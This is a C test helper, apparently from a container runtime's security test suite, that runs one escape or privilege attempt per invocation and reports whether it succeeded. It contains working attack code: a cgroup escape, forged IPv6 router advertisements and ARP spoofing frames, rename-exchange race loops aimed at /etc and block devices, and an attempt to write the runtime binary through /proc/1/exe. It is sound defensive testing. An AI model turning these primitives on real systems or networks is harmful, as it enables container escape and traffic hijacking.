/*
 * cv-attack: one escape or privilege attempt per invocation, run inside a
 * container by tests/integration/test_cli_security.sh. Linked statically so
 * that it runs in the busybox rootfs. Prints "ok" when the attempt worked,
 * else the errno name (EPERM, EROFS, ...), and exits 0 either way: the test
 * compares the printed outcome with the expected one for each level.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <linux/reboot.h>
#include <net/if.h>
#include <netinet/ip6.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *errno_name(int err)
{
	static const struct {
		int value;
		const char *name;
	} names[] = {
	        {EPERM, "EPERM"},     {ENOENT, "ENOENT"},   {EACCES, "EACCES"},
	        {EROFS, "EROFS"},     {ENOSYS, "ENOSYS"},   {EINVAL, "EINVAL"},
	        {EBUSY, "EBUSY"},     {ENODEV, "ENODEV"},   {ENXIO, "ENXIO"},
	        {EFAULT, "EFAULT"},   {ESRCH, "ESRCH"},     {EEXIST, "EEXIST"},
	        {ENOTDIR, "ENOTDIR"}, {ENOTSUP, "ENOTSUP"}, {EAFNOSUPPORT, "EAFNOSUPPORT"},
	        {EBADF, "EBADF"},     {ELOOP, "ELOOP"},     {ETXTBSY, "ETXTBSY"},
	        {ENOMEM, "ENOMEM"},
	};
	for (size_t i = 0; i < sizeof names / sizeof names[0]; i++)
		if (names[i].value == err)
			return names[i].name;
	return "EOTHER";
}

static int report(long result)
{
	if (result < 0)
		printf("%s\n", errno_name(errno));
	else
		printf("ok\n");
	return 0;
}

/* --- sensitive binds (issue 9, attack 6) --- */

/* Writes "0" (the writer itself) into FILE: on cgroup v1 `tasks`, on v2 `cgroup.procs`. */
static int join_cgroup_file(const char *file)
{
	int fd = open(file, O_WRONLY | O_CLOEXEC);
	long written = fd < 0 ? -1 : write(fd, "0\n", 2);
	int saved = errno;

	if (fd >= 0)
		close(fd);
	errno = saved;
	return written == 2 ? 0 : -1;
}

/*
 * With the host's cgroup tree bound at ROOT, move ourselves to its root
 * cgroup (out of the container's pids and memory limits), then prove it:
 * 64 children (more than the test's --pids-limit) and 128 MiB touched (more
 * than its --memory). "ok" means every step worked: the limits are gone.
 */
static long cgroup_escape(const char *root)
{
	char path[256];
	pid_t children[64];
	int forked = 0;
	long result = 0;

	snprintf(path, sizeof path, "%s/cgroup.procs", root);
	if (access(path, F_OK) == 0) {
		if (join_cgroup_file(path) < 0)
			return -1;
	} else {
		static const char *const controllers[] = {"pids", "memory"};
		for (size_t i = 0; i < 2; i++) {
			snprintf(path, sizeof path, "%s/%s/tasks", root, controllers[i]);
			if (join_cgroup_file(path) < 0)
				return -1;
		}
	}
	for (; forked < 64; forked++) {
		children[forked] = fork();
		if (children[forked] == 0) {
			pause();
			_exit(0);
		}
		if (children[forked] < 0) {
			result = -1;
			break;
		}
	}
	for (int i = 0; i < forked; i++) {
		kill(children[i], SIGKILL);
		waitpid(children[i], NULL, 0);
	}
	if (result < 0)
		return -1;
	size_t size = (size_t)128 << 20;
	char *memory = malloc(size);
	if (memory == NULL)
		return -1;
	memset(memory, 1, size); /* in the container's cgroup the OOM killer ends us here */
	free(memory);
	return 0;
}

/*
 * Network attacks on the neighbours (issue 9, attack 5), through a packet
 * socket on eth0 (CAP_NET_RAW): the frames are built by hand, so the
 * sender's own IPv6 or ARP settings cannot stop them; only the receivers'
 * configuration and the capability can.
 */
static int packet_socket(unsigned short protocol, int *index, unsigned char mac[6])
{
	struct ifreq request = {0};
	int fd = socket(AF_PACKET, SOCK_DGRAM, htons(protocol));

	if (fd < 0)
		return -1;
	snprintf(request.ifr_name, sizeof request.ifr_name, "eth0");
	if (ioctl(fd, SIOCGIFHWADDR, &request) < 0 || ioctl(fd, SIOCGIFINDEX, &request) < 0)
		return -1;
	*index = request.ifr_ifindex;
	/* SIOCGIFINDEX overwrote the union: read the address again. */
	if (ioctl(fd, SIOCGIFHWADDR, &request) < 0)
		return -1;
	memcpy(mac, request.ifr_hwaddr.sa_data, 6);
	return fd;
}

static long send_frame(int fd, int index, unsigned short protocol, const unsigned char destination[6],
                       const void *frame, size_t length)
{
	struct sockaddr_ll to = {
	        .sll_family = AF_PACKET, .sll_protocol = htons(protocol), .sll_ifindex = index, .sll_halen = 6};

	memcpy(to.sll_addr, destination, 6);
	return sendto(fd, frame, length, 0, (struct sockaddr *)&to, sizeof to);
}

static unsigned short icmp6_checksum(const struct ip6_hdr *ip, const unsigned char *message, size_t length)
{
	unsigned long sum = 0;
	unsigned char pseudo[40] = {0};

	memcpy(pseudo, &ip->ip6_src, 16);
	memcpy(pseudo + 16, &ip->ip6_dst, 16);
	pseudo[34] = (unsigned char)(length >> 8);
	pseudo[35] = (unsigned char)length;
	pseudo[39] = IPPROTO_ICMPV6;
	for (size_t i = 0; i < sizeof pseudo; i += 2)
		sum += (unsigned long)(pseudo[i] << 8 | pseudo[i + 1]);
	for (size_t i = 0; i < length; i += 2)
		sum += (unsigned long)(message[i] << 8 | (i + 1 < length ? message[i + 1] : 0));
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((unsigned short)~sum);
}

/*
 * ra PREFIX: a router advertisement to all nodes (ff02::1, hop limit 255,
 * from our link-local address): default router, high preference, lifetime
 * 60 s, and PREFIX/64 on-link and autonomous (SLAAC). A receiver with
 * accept_ra takes us as its default router (CVE-2020-13401 class).
 */
static long send_router_advertisement(const char *prefix_text)
{
	static const unsigned char all_nodes_mac[6] = {0x33, 0x33, 0, 0, 0, 1};
	unsigned char frame[sizeof(struct ip6_hdr) + 16 + 8 + 32] = {0}, mac[6], *ra;
	struct ip6_hdr *ip = (struct ip6_hdr *)frame;
	struct in6_addr prefix;
	size_t length = sizeof frame - sizeof *ip;
	int index, fd;

	if (inet_pton(AF_INET6, prefix_text, &prefix) != 1) {
		errno = EINVAL;
		return -1;
	}
	fd = packet_socket(ETH_P_IPV6, &index, mac);
	if (fd < 0)
		return -1;
	ip->ip6_flow = htonl(6u << 28);
	ip->ip6_plen = htons((unsigned short)length);
	ip->ip6_nxt = IPPROTO_ICMPV6;
	ip->ip6_hlim = 255;
	/* fe80::EUI-64 of our MAC: a receiver drops an RA whose source is not link-local. */
	unsigned char *source = (unsigned char *)&ip->ip6_src;
	source[0] = 0xfe, source[1] = 0x80;
	source[8] = mac[0] ^ 2, source[9] = mac[1], source[10] = mac[2], source[11] = 0xff, source[12] = 0xfe;
	source[13] = mac[3], source[14] = mac[4], source[15] = mac[5];
	inet_pton(AF_INET6, "ff02::1", &ip->ip6_dst);
	ra = frame + sizeof *ip;
	ra[0] = 134;            /* router advertisement */
	ra[4] = 64;             /* current hop limit */
	ra[5] = 0x08;           /* router preference: high */
	ra[6] = 0, ra[7] = 60;  /* router lifetime: 60 s */
	ra[16] = 1, ra[17] = 1; /* source link-layer address option */
	memcpy(ra + 18, mac, 6);
	ra[24] = 3, ra[25] = 4, ra[26] = 64; /* prefix information: /64 */
	ra[27] = 0xc0;                       /* on-link, autonomous */
	ra[31] = 120, ra[35] = 60;           /* valid 120 s, preferred 60 s */
	memcpy(ra + 40, &prefix, 16);
	unsigned short checksum = icmp6_checksum(ip, ra, length);
	memcpy(ra + 2, &checksum, 2);
	return send_frame(fd, index, ETH_P_IPV6, all_nodes_mac, frame, sizeof frame);
}

/* arp_spoof SPOOFED,TARGET: an ARP request to TARGET claiming SPOOFED is at our MAC (it caches that). */
static long send_arp_spoof(const char *addresses)
{
	static const unsigned char broadcast[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
	unsigned char frame[28] = {0}, mac[6];
	char spoofed[32];
	const char *comma = strchr(addresses, ',');
	struct in_addr sender, target;
	int index, fd;

	snprintf(spoofed, sizeof spoofed, "%.*s", comma ? (int)(comma - addresses) : 0, addresses);
	if (comma == NULL || inet_pton(AF_INET, spoofed, &sender) != 1 || inet_pton(AF_INET, comma + 1, &target) != 1) {
		errno = EINVAL;
		return -1;
	}
	fd = packet_socket(ETH_P_ARP, &index, mac);
	if (fd < 0)
		return -1;
	frame[1] = 1;                  /* hardware: Ethernet */
	frame[2] = 0x08, frame[3] = 0; /* protocol: IPv4 */
	frame[4] = 6, frame[5] = 4;
	frame[7] = 1; /* request */
	memcpy(frame + 8, mac, 6);
	memcpy(frame + 14, &sender, 4);
	memcpy(frame + 24, &target, 4);
	return send_frame(fd, index, ETH_P_ARP, broadcast, frame, sizeof frame);
}

/*
 * ping ADDRESS: one echo through an ICMP echo socket (net.ipv4.ping_group_range), as iputils'
 * ping does without NET_RAW (Debian's busybox ping knows only raw sockets). ok on a reply.
 */
static long ping_without_raw(const char *address)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	unsigned char echo[16] = {8 /* echo request; the kernel sets the id and the checksum */}, reply[64];
	struct timeval timeout = {2, 0};
	int fd;

	if (inet_pton(AF_INET, address, &to.sin_addr) != 1) {
		errno = EINVAL;
		return -1;
	}
	fd = socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout) < 0 ||
	    sendto(fd, echo, sizeof echo, 0, (struct sockaddr *)&to, sizeof to) < 0)
		return -1;
	for (;;) {
		ssize_t n = recv(fd, reply, sizeof reply, 0);
		if (n < 0)
			return -1; /* EAGAIN: no reply in time */
		if (n >= 8 && reply[0] == 0 /* echo reply */)
			return 0;
	}
}

static long attempt_network(const char *what, const char *arg)
{
	if (strcmp(what, "ra") == 0)
		return send_router_advertisement(arg);
	if (strcmp(what, "arp_spoof") == 0)
		return send_arp_spoof(arg);
	if (strcmp(what, "packet_socket") == 0)
		return socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	if (strcmp(what, "ping_socket") == 0)
		return socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
	if (strcmp(what, "ping") == 0)
		return ping_without_raw(arg);
	errno = ENOENT;
	return -2;
}

/* Exchanges the names A and B with renameat2(RENAME_EXCHANGE), endlessly: the race of a TOCTOU attack. */
static long exchange_forever(const char *a, const char *b, const char *banner)
{
	printf("%s\n", banner);
	fflush(stdout);
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0)
			return -1;
}

static long attempt(const char *what, const char *arg)
{
	long network = attempt_network(what, arg);
	if (network != -2)
		return network;
	if (strcmp(what, "mount") == 0)
		return mount("none", "/mnt", "tmpfs", 0, NULL);
	if (strcmp(what, "umount") == 0)
		return umount2("/proc", MNT_DETACH);
	if (strcmp(what, "unshare") == 0)
		return unshare(CLONE_NEWUSER);
	if (strcmp(what, "unshare-net") == 0)
		return unshare(CLONE_NEWNET);
	if (strcmp(what, "setns") == 0) {
		int fd = open("/proc/self/ns/net", O_RDONLY);
		return fd < 0 ? -1 : setns(fd, CLONE_NEWNET);
	}
	if (strcmp(what, "ptrace") == 0) /* the container's init, or any other process of ours */
		return ptrace(PTRACE_ATTACH, 1, NULL, NULL);
	if (strcmp(what, "reboot") == 0)
		return syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_OFF, NULL);
	if (strcmp(what, "kexec") == 0)
		return syscall(SYS_kexec_load, 0, 0, NULL, 0);
	if (strcmp(what, "init_module") == 0)
		return syscall(SYS_init_module, "", 0, "");
	if (strcmp(what, "swapon") == 0)
		return swapon("/nonexistent-swap", 0);
	if (strcmp(what, "raw_socket") == 0)
		return socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
	if (strcmp(what, "vsock") == 0)
		return socket(40 /* AF_VSOCK */, SOCK_STREAM, 0);
	if (strcmp(what, "mknod_block") == 0)
		return mknod("/tmp/cv-sda", S_IFBLK | 0600, makedev(8, 0));
	if (strcmp(what, "open_block") == 0) { /* a block node made here, if mknod worked, must still not open */
		mknod("/tmp/cv-loop0", S_IFBLK | 0600, makedev(7, 0));
		return open("/tmp/cv-loop0", O_RDONLY);
	}
	if (strcmp(what, "open_mem") == 0) { /* /dev/mem is not in /dev; a node made for it must not open */
		if (open("/dev/mem", O_RDONLY) >= 0)
			return 0;
		mknod("/tmp/cv-mem", S_IFCHR | 0600, makedev(1, 1));
		return open("/tmp/cv-mem", O_RDONLY);
	}
	if (strcmp(what, "write") == 0) { /* write ARG (a file that exists) */
		int fd = open(arg, O_WRONLY);
		return fd < 0 ? -1 : write(fd, "1", 1);
	}
	if (strcmp(what, "read_size") == 0) { /* ok when ARG reads as empty (masked) */
		char buffer[64];
		int fd = open(arg, O_RDONLY);
		if (fd < 0)
			return -1;
		ssize_t n = read(fd, buffer, sizeof buffer);
		if (n > 0) {
			errno = EEXIST; /* it has content: not masked */
			return -1;
		}
		return n;
	}
	if (strcmp(what, "keyctl") == 0)
		return syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
	if (strcmp(what, "add_key") == 0)
		return syscall(SYS_add_key, "user", "cv", "x", 1, -3);
	if (strcmp(what, "clock_settime") == 0) {
		struct timespec now;
		clock_gettime(CLOCK_REALTIME, &now);
		return clock_settime(CLOCK_REALTIME, &now);
	}
	if (strcmp(what, "chown") == 0)
		return chown(arg, 1, 1);
	if (strcmp(what, "mkdir") == 0)
		return mkdir(arg, 0755);
	if (strcmp(what, "euid") == 0) { /* prints the effective uid: a setuid-root copy of us shows 0 when it worked */
		printf("euid=%d\n", (int)geteuid());
		return 0;
	}
	if (strcmp(what, "exe") == 0) /* overwrite the init's binary, which is the runtime's (CVE-2019-5736) */
		return open("/proc/1/exe", O_WRONLY);
	if (strcmp(what, "personality") == 0)
		return syscall(SYS_personality, 0x0040000 /* ADDR_NO_RANDOMIZE */);
	if (strcmp(what, "clone3") == 0)
		return syscall(SYS_clone3, NULL, 0);
	if (strcmp(what, "newest") == 0) /* a syscall number no kernel has yet: ENOSYS, not EPERM */
		return syscall(1000);
	if (strcmp(what, "fds") == 0) { /* prints the descriptors we hold beyond 0-2 */
		int found = 0;
		for (int fd = 3; fd < 1024; fd++)
			if (fcntl(fd, F_GETFD) >= 0) {
				char link[64], target[256] = "";
				snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
				readlink(link, target, sizeof target - 1);
				printf("fd %d -> %s\n", fd, target);
				found++;
			}
		return found ? (errno = EEXIST, -1) : 0;
	}
	/* --- cp races (test_cli_cp_attacks.sh) --- */
	if (strcmp(what, "cp_race") ==
	    0) { /* ARG "MAJOR:MINOR": swap /race with a block node of that device, forever */
		unsigned int major, minor;
		if (sscanf(arg, "%u:%u", &major, &minor) != 2) {
			errno = EINVAL;
			return -1;
		}
		/* 4 KiB: a copy that loses the race to the header's size still carries whole marker strings. */
		char harmless[4096];
		memset(harmless, '.', sizeof harmless);
		int fd = open("/race", O_WRONLY | O_CREAT | O_TRUNC, 0644);
		if (fd < 0 || write(fd, harmless, sizeof harmless) != (ssize_t)sizeof harmless || close(fd) < 0)
			return -1;
		unlink("/race-node");
		if (mknod("/race-node", S_IFBLK | 0600, makedev(major, minor)) < 0)
			return -1;
		return exchange_forever("/race", "/race-node", "racing");
	}
	/* --- end of cp races --- */
	/* stdio (issue 9, attack 4): what the container's descriptors 0-2 are; none may be a host file or terminal. */
	if (strcmp(what, "stdio") == 0) { /* "self N DEV INO TYPE" for our 0-2, "init ..." for PID 1's where visible */
		static const char *const owners[] = {"/proc/self/fd", "/proc/1/fd"};
		for (int owner = 0; owner < 2; owner++)
			for (int fd = 0; fd < 3; fd++) {
				char path[64];
				struct stat st;
				snprintf(path, sizeof path, "%s/%d", owners[owner], fd);
				if (stat(path, &st) < 0)
					continue; /* the init is not dumpable: its descriptors cannot be reached */
				const char *type = S_ISFIFO(st.st_mode)   ? "fifo"
				                   : S_ISCHR(st.st_mode)  ? "chr"
				                   : S_ISREG(st.st_mode)  ? "reg"
				                   : S_ISSOCK(st.st_mode) ? "sock"
				                                          : "other";
				dprintf(2, "%s %d %llu %llu %s\n", owner == 0 ? "self" : "init", fd,
				        (unsigned long long)st.st_dev, (unsigned long long)st.st_ino, type);
			}
		return 0;
	}
	if (strcmp(what, "stdio-reopen") == 0) { /* reopen our stdout for reading and writing: ok only for a file */
		int fd = open("/proc/self/fd/1", O_RDWR | O_NONBLOCK);
		struct stat st;
		if (fd < 0 || fstat(fd, &st) < 0)
			return -1;
		return S_ISREG(st.st_mode) ? 0 : (errno = ENOTSUP, -1);
	}
	/* --- second review (test_security_second_review.sh) --- */
	if (strcmp(what, "swap_forever") == 0) { /* ARG "A:B": exchange the names A and B, endlessly */
		char a[256], *b;
		snprintf(a, sizeof a, "%s", arg);
		b = strchr(a, ':');
		if (b == NULL) {
			errno = EINVAL;
			return -1;
		}
		*b++ = '\0';
		return exchange_forever(a, b, "swapping");
	}
	/* --- end of second review --- */
	/* --- sensitive binds (issue 9, attack 6) --- */
	if (strcmp(what, "cgroup_escape") == 0) /* ARG: where the host's /sys/fs/cgroup is bound */
		return cgroup_escape(arg);
	/* --- bind source swaps (review r3) --- */
	if (strcmp(what, "bind_swap") == 0) { /* ARG DIR: swap DIR/sub (a directory) with DIR/link (-> /etc), forever */
		char sub[4096], link[4096];
		snprintf(sub, sizeof sub, "%s/sub", arg);
		snprintf(link, sizeof link, "%s/link", arg);
		if ((mkdir(sub, 0755) < 0 && errno != EEXIST) || (symlink("/etc", link) < 0 && errno != EEXIST))
			return -1;
		return exchange_forever(sub, link, "racing");
	}
	if (strcmp(what, "bind_swap_new") == 0) { /* ARG DIR: DIR/new comes and goes as a link to /etc, forever */
		char new[4096], link[4096], away[4096];
		unsigned long moved = 0;
		snprintf(new, sizeof new, "%s/new", arg);
		snprintf(link, sizeof link, "%s/new-link", arg);
		printf("racing\n");
		fflush(stdout);
		for (;;) {
			if (symlink("/etc", link) < 0 && errno != EEXIST)
				return -1;
			rename(link, new); /* fails while a directory made by the host is there */
			if (unlink(new) < 0 && errno == EISDIR) {
				/* The host made it a directory (and maybe more in it): out of the way, one per start.
				 */
				snprintf(away, sizeof away, "%s/away-%lu", arg, moved++);
				if (rename(new, away) < 0)
					return -1;
			}
		}
	}
	/* --- end of bind source swaps --- */
	/* --- held start (review-held): run on the host against a held container's release socket --- */
	if (strcmp(what, "held_release") == 0) { /* ARG "MODE:PATH": go, stall or fds, as the comments below say */
		struct sockaddr_un address = {.sun_family = AF_UNIX};
		const char *path = strchr(arg, ':');
		int fd = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
		if (path == NULL || fd < 0)
			return errno = EINVAL, -1;
		snprintf(address.sun_path, sizeof address.sun_path, "%s", path + 1);
		if (connect(fd, (struct sockaddr *)&address, sizeof address) < 0 || unlink(path + 1) < 0)
			return -1;
		if (strncmp(arg, "go:", 3) == 0) { /* a start killed between its "go" and its state.json */
			if (send(fd, "r", 1, MSG_NOSIGNAL) != 1)
				return -1;
			_exit(0);
		}
		/* stall: a start killed before its "go" (connected, then gone a second later) */
		if (strncmp(arg, "stall:", 6) == 0) {
			sleep(1);
			_exit(0);
		}
		/* fds: "go" with descriptors of the host along (its root, this socket): none may reach the workload. */
		char control[CMSG_SPACE(2 * sizeof(int))] = {0}, answer[2048];
		int fds[2] = {open("/", O_PATH | O_DIRECTORY | O_CLOEXEC), fd};
		struct iovec iov = {.iov_base = "r", .iov_len = 1};
		struct msghdr message = {
		        .msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
		struct cmsghdr *header = CMSG_FIRSTHDR(&message);
		header->cmsg_level = SOL_SOCKET;
		header->cmsg_type = SCM_RIGHTS;
		header->cmsg_len = CMSG_LEN(sizeof fds);
		memcpy(CMSG_DATA(header), fds, sizeof fds);
		if (fds[0] < 0 || sendmsg(fd, &message, MSG_NOSIGNAL) != 1 || recv(fd, answer, sizeof answer, 0) <= 0)
			return -1;
		return 0;
	}
	/* --- end of held start --- */
	/* --- live update (issue 10: containerv update) --- */
	if (strcmp(what, "alloc") == 0) { /* ARG MiB: allocate and touch that much, then say so */
		size_t bytes = (size_t)strtoul(arg, NULL, 10) << 20;
		char *memory = malloc(bytes);
		if (memory == NULL)
			return -1;
		for (size_t i = 0; i < bytes; i += 4096)
			memory[i] = 1;
		printf("allocated %s MiB\n", arg);
		return 0;
	}
	if (strcmp(what, "hold") == 0) { /* ARG MiB: allocate and touch that much, say so, and keep it until killed */
		size_t bytes = (size_t)strtoul(arg, NULL, 10) << 20;
		char *memory = malloc(bytes);
		if (memory == NULL)
			return -1;
		for (size_t i = 0; i < bytes; i += 4096)
			memory[i] = 1;
		printf("holding %s MiB\n", arg);
		fflush(stdout);
		for (;;)
			pause();
	}
	if (strcmp(what, "forks") == 0) { /* ARG N (<= 256): hold N children at once; prints how many forks worked */
		long wanted = strtol(arg, NULL, 10), made = 0;
		pid_t children[256];
		for (; made < wanted && made < 256; made++) {
			children[made] = fork();
			if (children[made] < 0)
				break;
			if (children[made] == 0) {
				pause();
				_exit(0);
			}
		}
		for (long i = 0; i < made; i++) {
			kill(children[i], SIGKILL);
			waitpid(children[i], NULL, 0);
		}
		printf("forked %ld\n", made);
		return 0;
	}
	/* --- end of live update --- */
	/* --- huge page limits (issue 14: hugepageLimits) --- */
	if (strcmp(what, "hugetlb") == 0) { /* ARG N: map and touch N 2 MiB huge pages (ENOMEM past a limit) */
		size_t bytes = (size_t)strtoul(arg, NULL, 10) << 21;
		char *memory =
		        mmap(NULL, bytes, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0);
		if (memory == MAP_FAILED)
			return -1;
		/* Past hugetlb.*.max without a reservation limit the fault is a SIGBUS: the test sees no "ok". */
		for (size_t i = 0; i < bytes; i += 4096)
			memory[i] = 1;
		return 0;
	}
	/* --- end of huge page limits --- */
	errno = EINVAL;
	fprintf(stderr, "cv-attack: unknown attempt %s\n", what);
	return -1;
}

int main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: cv-attack ATTEMPT [ARG]\n");
		return 2;
	}
	return report(attempt(argv[1], argc > 2 ? argv[2] : ""));
}
